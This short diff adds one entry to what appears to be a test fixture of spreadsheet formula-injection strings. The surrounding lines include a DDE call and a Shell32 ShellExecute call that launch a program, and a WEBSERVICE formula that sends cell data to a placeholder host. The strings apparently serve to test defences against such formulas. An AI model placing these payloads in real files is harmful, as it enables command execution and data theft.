@@ -32,6 +32,7 @@ TEXTS: dict[str, str] = {
     "dde function": '=DDE("cmd";"/C calc";"x")',
     "webservice": '=_xlfn.WEBSERVICE("http://x.invalid/"&A1)',
     "prefix alone": "_xlfn.X",
+    "future function": "SORT(FILTER(A1),MINGLE(1))",
     "macro": '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc")',
     # What a drawing library makes links or mark-up of
     "url": "http://x.invalid/",
